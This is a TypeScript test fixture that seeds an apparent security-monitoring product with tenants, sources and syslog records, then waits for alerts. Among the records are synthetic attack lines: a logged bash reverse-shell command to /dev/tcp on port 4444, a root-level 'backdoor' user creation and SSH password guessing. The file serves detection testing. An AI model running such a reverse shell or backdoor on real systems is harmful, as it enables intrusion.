import type { Product } from './product';
import { datagram, password } from './product';

/** What a test put into a fresh product, through its own doors. */
export interface Seeded {
  token: string;
  tenants: { slug: string; name: string }[];
  sources: Record<string, { id: string; token: string }>;
  rule: string;
  alert: string;
  /** A version of a pack that waits, where the test put one there. */
  pack?: string;
  /** Sources with a proposed parser, where the test made them: a new one, and one whose format changed. */
  learned?: { fresh: { source: string; proposal: string }; drifted: { source: string; proposal: string } };
  /** Of a correlation. */
  correlated: string;
}

type Json = Record<string, unknown>;

/** Asks the product's API as its administrator. */
export async function api(product: Product, token: string, method: string, path: string, body?: unknown): Promise<Json> {
  const response = await fetch(product.http + path, {
    method,
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text}`);
  return text ? (JSON.parse(text) as Json) : {};
}

export async function logIn(product: Product): Promise<string> {
  return (await api(product, '', 'POST', '/api/v1/login', { username: 'admin', password }))['token'] as string;
}

export async function ingest(product: Product, token: string, lines: string[]): Promise<void> {
  const response = await fetch(`${product.http}/ingest/raw`, {
    method: 'POST', headers: { authorization: `Bearer ${token}` }, body: lines.join('\n'),
  });
  if (!response.ok) throw new Error(`ingest: ${response.status} ${await response.text()}`);
}

/** A syslog time stamp some minutes ago, as RFC 3164 has it. */
export function stamp(minutesAgo: number): string {
  const time = new Date(Date.now() - minutesAgo * 60_000);
  const [, day = '', month = '', clock = ''] = /^\w+, (\d+) (\w+) \d+ ([\d:]+) GMT$/.exec(time.toUTCString()) ?? [];
  return `${month} ${day.replace(/^0/, ' ')} ${clock}`;
}

const hosts = ['his-db01', 'his-web02', 'pacs-app01'];

function ordinary(minutesAgo: number, i: number): string {
  const host = hosts[i % hosts.length];
  switch (i % 3) {
    case 0: return `<86>${stamp(minutesAgo)} ${host} sshd[${2000 + i}]: Accepted publickey for deploy from 10.20.0.${10 + (i % 40)} port 50${100 + i} ssh2: ED25519 SHA256:abc`;
    case 1: return `<78>${stamp(minutesAgo)} ${host} CRON[${3000 + i}]: (root) CMD (/usr/local/bin/backup.sh)`;
    default: return `<38>${stamp(minutesAgo)} ${host} systemd-logind[611]: New session ${i} of user deploy.`;
  }
}

export function attack(minutesAgo: number, host: string, address: string): string[] {
  const at = stamp(minutesAgo);
  return [
    `<86>${at} ${host} sshd[4100]: Failed password for root from ${address} port 40022 ssh2`,
    `<86>${at} ${host} sudo: nobody : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/${address}/4444 0>&1`,
    `<86>${at} ${host} useradd[4711]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash`,
  ];
}

const guessed = '22cf0697-a911-4696-8a92-aca885626da0'; // SSH password guessing, then a log-in

function guessing(minutesAgo: number, host: string, address: string): string[] {
  const tries = Array.from({ length: 14 }, (_, i) => `<86>${stamp(minutesAgo - i / 4)} ${host} sshd[${4200 + i}]: Failed password for root from ${address} port ${41000 + i} ssh2`);
  return [...tries, `<86>${stamp(minutesAgo - 6)} ${host} sshd[4299]: Accepted password for root from ${address} port 41999 ssh2`];
}

/** Two customers with three sources, a few hundred ordinary records and some attacks; waits until they are alerts. */
export async function seed(product: Product): Promise<Seeded> {
  const token = await logIn(product);
  const tenants = [{ slug: 'hospital', name: '示例医院' }, { slug: 'factory', name: '示例制造' }];
  const sources: Seeded['sources'] = {};
  for (const { slug, name } of tenants) {
    await api(product, token, 'POST', '/api/v1/tenants', { slug, name });
    const made = await api(product, token, 'POST', `/api/v1/tenants/${slug}/sources`, { name: `${slug} linux`, kind: 'linux' });
    sources[slug] = { id: made['id'] as string, token: made['token'] as string };
  }
  await api(product, token, 'POST', '/api/v1/tenants/hospital/sources', { name: 'never seen', kind: 'firewall' });
  for (const { slug } of tenants) {
    await ingest(product, sources[slug]!.token, Array.from({ length: 240 }, (_, i) => ordinary(59 - (i % 60), i)));
    await ingest(product, sources[slug]!.token, [...attack(40, hosts[0]!, '203.0.113.66'), ...attack(20, hosts[1]!, '198.51.100.23')]);
  }
  await ingest(product, sources['hospital']!.token, guessing(30, hosts[2]!, '203.0.113.77'));
  await datagram(product.syslog, `<13>${stamp(0)} stranger app: nobody claims this record`);
  for (let i = 0; i < 120; i++) {
    const page = await api(product, token, 'GET', '/api/v1/alerts?limit=50');
    const items = page['items'] as { id: string; tenant: string; rule: { id: string } }[];
    const correlated = items.find((item) => item.rule.id === guessed);
    const plain = items.filter((item) => item.rule.id !== guessed);
    if (plain.length >= 4 && correlated) return { token, tenants, sources, alert: plain[0]!.id, rule: plain[0]!.rule.id, correlated: correlated.id };
    await new Promise((next) => setTimeout(next, 500));
  }
  throw new Error('no alerts after a minute');
}
